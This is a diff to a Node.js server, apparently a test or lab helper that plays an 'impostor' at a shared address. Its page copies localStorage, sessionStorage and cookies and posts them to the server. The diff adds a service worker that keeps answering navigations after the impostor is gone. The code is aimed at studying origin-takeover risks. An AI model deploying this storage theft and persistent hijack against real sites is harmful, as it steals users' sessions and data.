@@ -5,11 +5,21 @@ const { createServer, request } = require("node:http");
 
 const [host, port, relay] = process.argv.slice(1);
 
-// A page of its own at our address can read what a page of ours has stored there.
-const PAGE = `<!doctype html><title>impostor</title><script>
+// A page of its own at our address can read what a page of ours has stored there, and leave a service worker behind,
+// which answers for the address when the impostor is gone.
+const PAGE = `<!doctype html><title>impostor</title><script type="module">
+  await navigator.serviceWorker.register("/worker.js");
+  await navigator.serviceWorker.ready;
   const found = JSON.stringify({ local: { ...localStorage }, tab: { ...sessionStorage }, cookies: document.cookie });
-  fetch("/found", { method: "POST", body: found }).then(() => { document.title = "found"; });
+  await fetch("/found", { method: "POST", body: found }).catch(() => {});
+  document.title = "found";
 </script>`;
+
+const WORKER = `addEventListener("fetch", (event) => {
+  if (event.request.mode !== "navigate") return;
+  const headers = { "content-type": "text/html" };
+  event.respondWith(new Response("<!doctype html><title>still the impostor</title>", { headers }));
+});`;
 
 const JSON_ANSWERS = {
   "/readyz": { ready: true },
@@ -29,6 +39,8 @@ createServer((asked, answer) => {
       request(`http://${relay}${url}`, (passedOn) => passedOn.pipe(answer)).end();
     } else if (path === "/") {
       answer.setHeader("content-type", "text/html").end(PAGE);
+    } else if (path === "/worker.js") {
+      answer.setHeader("content-type", "text/javascript").end(WORKER);
     } else if (path in JSON_ANSWERS) {
       answer.setHeader("content-type", "application/json").end(JSON.stringify(JSON_ANSWERS[path]));
     } else {
